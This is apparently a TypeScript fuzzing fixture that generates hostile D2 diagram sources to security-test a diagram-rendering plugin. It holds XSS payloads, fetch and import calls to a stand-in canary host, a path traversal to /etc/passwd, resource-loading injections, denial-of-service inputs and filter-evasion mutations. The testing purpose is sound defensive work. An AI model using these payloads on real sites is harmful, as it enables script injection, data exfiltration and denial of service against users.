/**
 * Sources that try to run scripts, load files, escape from the SVG, or make a page unusable. `createHostileSources` replaces `CANARY`
 * with the origin of another host.
 */
import {deflateRawSync} from 'node:zlib';
import {createRandom} from '../../../plugins/shared/randomNumbers';

/** Scripts that an attacker would run. If one of them runs, the canary, the variable `hit`, or the console shows it. */
const SCRIPTS = [
  'globalThis.hit=1',
  'fetch(`CANARY/x`)',
  'fetch("CANARY/x")',
  "import('CANARY/x.js')",
  'importScripts("CANARY/x.js")',
  'new Worker(URL.createObjectURL(new Blob(["fetch(`CANARY/w`)"])))',
  'new WebSocket("CANARY/s".replace("http","ws"))',
  'indexedDB.open("x")',
  'caches.open("x").then(c=>c.put("CANARY/c",new Response("x")))',
  'postMessage({type:"drawn"})',
  'self.close()',
];

/** Escapes a script for a key in double quotes. */
const escapeScript = (script: string) => script.replaceAll('\\', '\\\\').replaceAll('"', '\\"');

/** Wraps a script in a source. D2 puts the ids of connections and LaTeX into scripts, and classes and Markdown into SVGs. */
const SCRIPT_WRAPPERS: readonly ((script: string) => string)[] = [
  (script) => `"\${${escapeScript(script)}}" -> b`,
  (script) => `'\${${script}}' -> b: x`,
  (script) => `a -> "\${${escapeScript(script)}}"\na -> b`,
  (script) => `"\`+(${escapeScript(script)})+\`" -> b`,
  (script) => `"\`});${escapeScript(script)};g.setEdge({v:\`0\`,w:\`1\`,name:\`" -> b`,
  (script) => `x: {"\${${escapeScript(script)}}": {y -> z}}`,
  (script) => `shape: sequence_diagram\n"\${${escapeScript(script)}}" -> b: hi`,
  (script) => `grid-rows: 2\n"\${${escapeScript(script)}}" -> b`,
  (script) => `a: |latex \${${script}} |\na -> b`,
  (script) => `a: |latex \`+(${script})+\` |`,
  (script) => `a: |latex \\text{\`, {em:1,ex:1}));${script};((\`} |`,
  (script) => `a: |md\n  <script>${script}</script>\n|`,
  (script) => `a: |md\n  <img src="x" onerror='${script}'>\n|`,
  (script) => `a: |md\n  <a href='javascript:${script}'>x</a>\n|`,
  (script) => `a: |md\n  <iframe srcdoc='<script>${script}</script>'></iframe>\n|`,
  (script) =>
    `a: |md\n  <svg xmlns="http://www.w3.org/2000/svg" onload='${script}'><script>${script}</script></svg>\n|`,
  (script) => `a: x {link: 'javascript:${script}'}`,
  (script) => `a: x {tooltip: '<script>${script}</script>'}`,
  (script) => `a.class: 'x"><script>${script}</script><g class="'`,
  (script) => `a.class: ['y" onload="${script.replaceAll('"', "'")}']`,
  (script) => `a: '</text><script>${script}</script>'`,
  (script) => `a: |\`js ${script} \`|`,
  (script) => `a -> b: '<script>${script}</script>'`,
  (script) => `a: {shape: sql_table; "<script>${script}</script>": int}`,
  (script) => `a: {shape: class; "<img onerror='${script.replaceAll("'", '`')}'>": int}`,
];

/** Sources that try to load something from another host. */
const LOADING_SOURCES = [
  'a: {icon: CANARY/i.png}',
  'a: {shape: image; icon: CANARY/i.svg}',
  'a: {icon: //CANARY/i.png}',
  'a: |md\n  ![x](CANARY/i.png)\n|',
  'a: |md\n  <img src="CANARY/i.png"/>\n|',
  'a: |md\n  <img srcset="CANARY/i.png 2x"/>\n|',
  'a: |md\n  <style>@import "CANARY/s.css";</style>\n|',
  'a: |md\n  <style>@im<!-- -->port "CANARY/s.css";</style>\n|',
  'a: |md\n  <link rel="stylesheet" href="CANARY/s.css"/>\n|',
  'a: |md\n  <p style="background:url(CANARY/b.png)">x</p>\n|',
  'a: |md\n  <p style="background:u\\72l(CANARY/b.png)">x</p>\n|',
  'a: |md\n  <p style="background:image-set(\'CANARY/b.png\' 1x)">x</p>\n|',
  'a: |md\n  <p style="background:cross-fade(url(CANARY/b.png), red)">x</p>\n|',
  'a: |md\n  <p style="background:src(\'CANARY/b.png\')">x</p>\n|',
  'a: |md\n  <video src="CANARY/v.mp4" autoplay=""></video>\n|',
  'a: |md\n  <iframe src="CANARY/f"></iframe>\n|',
  'a: |md\n  <object data="CANARY/o"></object>\n|',
  'a: |md\n  <embed src="CANARY/e"/>\n|',
  'a: |md\n  <form action="CANARY/f"><input name="x"/></form>\n|',
  'a: |md\n  <meta http-equiv="refresh" content="0;url=CANARY/m"/>\n|',
  'a: |md\n  <base href="CANARY/"/><img src="x"/>\n|',
  'a: |md\n  <a href="CANARY/" ping="CANARY/p">x</a>\n|',
  'a: |md\n  <svg xmlns="http://www.w3.org/2000/svg"><use href="CANARY/u.svg#x"/><image href="CANARY/i.png"/></svg>\n|',
  'a: |md\n  <svg xmlns="http://www.w3.org/2000/svg"><feImage href="CANARY/i.png"/></svg>\n|',
  'a: |md\n  <math><maction actiontype="statusline#CANARY/">x</maction></math>\n|',
  `a.class: 'x"><image href="CANARY/i.png"/><style>@import "CANARY/s.css"</style><g class="'`,
  `a.class: 'x" style="fill:url(CANARY/f.svg#x)" y="'`,
  `a.style.fill: 'linear-gradient(url(CANARY/g.png), red)'`,
  '...@CANARY/x',
  'a: @"CANARY/x.d2"',
  'a: @../../../etc/passwd',
  'vars: {d2-config: {theme-overrides: {B1: "url(CANARY/t.png)"}}}\na',
  'a: {icon: data:image/svg+xml,%3Csvg xmlns="http://www.w3.org/2000/svg"%3E%3Cimage href="CANARY/d.png"/%3E%3C/svg%3E; shape: image}',
];

const createUses = (depth: number): string =>
  Array.from({length: depth}, (_, i) => `<g id="u${i + 1}">${`<use href="#u${i}"/>`.repeat(10)}</g>`).join('');

/** Sources that would keep a browser or the compiler busy. */
const SLOW_SOURCES = [
  `a: |md\n  <svg xmlns="http://www.w3.org/2000/svg"><path id="u0" d="M0 0h9v9z"/>${createUses(9)}</svg>\n|`,
  `a.class: 'x"><path id="u0" d="M0 0h9v9z"/>${createUses(9)}<g class="'`,
  `a.class: 'x">${'<g>'.repeat(3000)}<g class="'`,
  `a.class: 'x">${'<pattern id="p" width="1" height="1"><rect width="9" height="9" fill="url(#p)"/></pattern>'.repeat(50)}<rect width="9000" height="9000" fill="url(#p)"/><g class="'`,
  `a: "${'\\n'.repeat(20_000)}x"`,
  `a: "${'x'.repeat(200_000)}"`,
  `a: {width: 10000000; height: 10000000}`,
  `a: {width: 40000; height: 20}`,
  Array.from({length: 120}, (_, i) => `n${i} -> n${(i * 7) % 120}`).join('\n'),
  `a: |latex \\def\\x{\\x\\x}\\x |`,
  `a: |latex ${'{'.repeat(5000)} |`,
  'a.style.font-size: 100000000',
  // Markup in the stops of a gradient that takes long to paint or to match.
  `a.style.fill: 'linear-gradient(45deg, red "/></linearGradient></defs><marker/id="k">${'<rect/width="9"/height="9"/>'.repeat(500)}</marker><path/style="marker:url&#40;#k&#41;"/d="M0&#32;0${'h1v1'.repeat(10_000)}"/><defs><linearGradient><stop/x=", blue 5%)'`,
  `a.style.fill: 'linear-gradient(45deg, red "/></linearGradient></defs>${`<style>${'g:has&#40;+*+*+*+a&#41;{r:0}'.repeat(1900)}</style>`.repeat(3)}${'<g/>'.repeat(14_000)}<defs><linearGradient><stop/x=", blue 5%)'`,
  // A GIF whose header says 60,000 × 60,000 pixels.
  `a: {shape: image; icon: 'data:image/gif;base64,R0lGODlhYOpg6gAAAAA='}`,
  `a: |md\n${'  > '.repeat(500)}x\n|`,
  // Nested SVGs with a dashed curve that has a million dashes.
  ...['<path d="M0 0C9 1e5 1e5 9 9 9"/>', '<path d="M0 0C9 1e5 1e5 9 9 9"/>'.repeat(4)].map(
    (curves) =>
      `a: {shape: image; icon: 'data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><g fill="none" stroke="red" stroke-dasharray=".3">${curves}</g></svg>`)}'}`,
  ),
  // Thousands of partial matches for our regular expressions, which look for animations, media queries, lengths, and scales.
  `a: {tooltip: "${' animation: a 1s'.repeat(20_000)}"}\na -> b: {style.animated: true}`,
  `a: {tooltip: "${'@media (prefers-reduced-motion:reduce){'.repeat(20_000)}"}\na -> b: {style.animated: true}`,
  `a: |md <b>y</b>${`<i style="filter:${'1'.repeat(19_900)}">x</i>`.repeat(18)} |`,
  `a: |md <svg><g transform="${'scale('.repeat(50_000)}"/></svg> |`,
  // GIFs of 1 × 1 pixel with a frame of 13,000 × 13,000, one of them called a PNG.
  `a: {shape: image; icon: 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAyDLIMgACAkQBADs='}`,
  `a: {shape: image; icon: 'data:image/png;base64,R0lGODlhAQABAAAASUhEUgAAAAEAAAABACwAAAAAyDLIMgACAkQBADs='}`,
];

/** Sources that could break the page that shows them. */
const ODD_SOURCES = [
  '',
  '\0',
  '\u2028\u2029',
  '\ud800',
  'a: "\ud800\udfff\uffff\ufffe\u0001"',
  '__proto__ -> constructor: prototype',
  'toString.__proto__.x: 1',
  'a: "]]>"\na.tooltip: "]]><script>globalThis.hit=1</script>"',
  'a: "<!--"\nb: "-->"',
  'a: "&lt;script&gt;&#60;script&#62;"',
  'a: "%3Cscript%3E"',
  'a -> b: "${x}"',
  'vars: {x: "<img src=x onerror=globalThis.hit=1>"}\na: ${x}',
  'layers: {"<script>": {x: "<script>globalThis.hit=1</script>"}}\na.link: layers."<script>"',
  '[1;{a:2}',
  'a: |`|',
  '*: *',
  '**: {&shape: x}\na',
  'a: null\na -> null',
  '#'.repeat(1000),
  '{'.repeat(1000),
  '"'.repeat(999),
];

/** Changes that often defeat filters: case, entities, splits, other quotes. */
const MUTATIONS: readonly ((text: string, randomBelow: (bound: number) => number) => string)[] = [
  (text) =>
    text.replace(/<(\/?)(script|style|img|svg|iframe)/gi, (_, slash, name: string) => `<${slash}${name.toUpperCase()}`),
  (text) => text.replace(/<script/g, '<svg:script xmlns:svg="http://www.w3.org/2000/svg"'),
  (text) => text.replace(/javascript:/g, 'java&#x09;script:'),
  (text) => text.replace(/javascript:/g, ' JaVaScRiPt:'),
  (text) => text.replace(/on(error|load|click)/g, 'oN$1'),
  (text) => text.replace(/(<\w+) /g, '$1/'),
  (text) => text.replace(/"/g, "'"),
  (text) => text.replace(/url\(/g, 'url/**/('),
  (text) => text.replace(/@import/g, '@\\69mport'),
  (text) => text.replace(/</g, '&lt;'),
  (text) => text.replace(/\$\{/g, '\\${'),
  (text) => text.replace(/`/g, '\\`'),
  (text, randomBelow) =>
    `${text.slice(0, randomBelow(text.length + 1))}\u200b${text.slice(randomBelow(text.length + 1))}`,
  (text, randomBelow) => text.slice(randomBelow(20)),
  (text, randomBelow) => text.slice(0, text.length - randomBelow(20)),
  (text) => `direction: right\n${text}\nz: {style.animated: true}`,
  (text) => `layers: {x: {\n${text}\n}}`,
  (text) => `x: {\n${text}\n}`,
];

const MUTATION_COUNT = 500;

function createMutations(sources: readonly string[], count: number): string[] {
  const randomBelow = createRandom(20);
  return Array.from({length: count}, () => {
    let source = sources[randomBelow(sources.length)] ?? '';
    for (let times = 1 + randomBelow(2); times > 0; times--)
      source = MUTATIONS[randomBelow(MUTATIONS.length)]?.(source, randomBelow) ?? source;
    return source;
  });
}

export interface HostileSources {
  /** One source of each kind. */
  readonly seeds: readonly string[];
  /** The same scripts in more places, and mutations of all sources. */
  readonly variants: readonly string[];
  /** Sources that would keep a browser or the compiler busy for minutes. */
  readonly slowSources: readonly string[];
}

/** Returns the sources, which are the same in every run. @param canary origin of another host */
export function createHostileSources(canary: string): HostileSources {
  const wrappedScripts = SCRIPT_WRAPPERS.map((wrap, i) => wrap(SCRIPTS[i % SCRIPTS.length] ?? ''));
  const seeds = [...new Set([...wrappedScripts, ...LOADING_SOURCES, ...ODD_SOURCES])];
  const movedScripts = SCRIPTS.flatMap((script) => [0, 8, 11, 18].map((i) => SCRIPT_WRAPPERS[i]?.(script) ?? ''));
  const knownSources = new Set(seeds);
  const variants = [
    ...movedScripts,
    ...createMutations([...wrappedScripts, ...movedScripts, ...LOADING_SOURCES, ...ODD_SOURCES], MUTATION_COUNT),
  ];
  const insertCanary = (list: Iterable<string>) =>
    [...list].map((source) => source.replaceAll('//CANARY', canary.replace('http:', '')).replaceAll('CANARY', canary));
  return {
    seeds: insertCanary(seeds),
    variants: insertCanary(new Set(variants.filter((source) => !knownSources.has(source)))),
    slowSources: insertCanary(SLOW_SOURCES),
  };
}

/** Returns a sample that's the same in every run: the item at `offset`, and every `step`-th one after it. */
export const takeEveryNth = <T>(items: readonly T[], step: number, offset = 0): T[] =>
  items.filter((_, index) => index % step === offset);

/** Compresses a text for a share link. */
export const pack = (text: string): string =>
  deflateRawSync(text).toString('base64').replaceAll('+', '-').replaceAll('/', '_');

/** Returns a link that opens a source in the first figure of the page `hello-world`. */
export const createLink = (page: string, source: string): string =>
  `${page}#${new URLSearchParams({d2: 'diagram-hello-world', 'file.fence': pack(source)})}`;
